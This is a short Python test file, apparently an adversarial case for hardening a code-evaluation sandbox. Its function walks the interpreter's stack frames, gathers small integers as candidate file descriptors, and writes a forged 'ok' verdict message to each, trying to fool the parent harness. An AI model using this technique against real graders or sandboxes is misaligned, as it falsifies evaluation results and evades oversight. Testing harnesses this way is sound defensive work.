# attack: sys._getframe to the harness, every small number it holds is tried as a descriptor to talk to the parent
# verdict: ok|protocol|crashed
import os
import sys


def f(x):
    frame, numbers = sys._getframe(), set(range(3, 64))
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            for value in list(space.values()):
                for inner in [value, *getattr(value, "__dict__", {}).values()]:
                    if type(inner) is int and 2 < inner < 5000:
                        numbers.add(inner)
        frame = frame.f_back
    header = b'{"op": "result", "id": 1, "verdict": "ok", "reason_names": []}'
    forged = b"PEI1" + len(header).to_bytes(4, "little") + (36).to_bytes(8, "little") + header + bytes(36)
    for number in sorted(numbers):
        try:
            os.write(number, forged)
        except OSError:
            pass
    return x
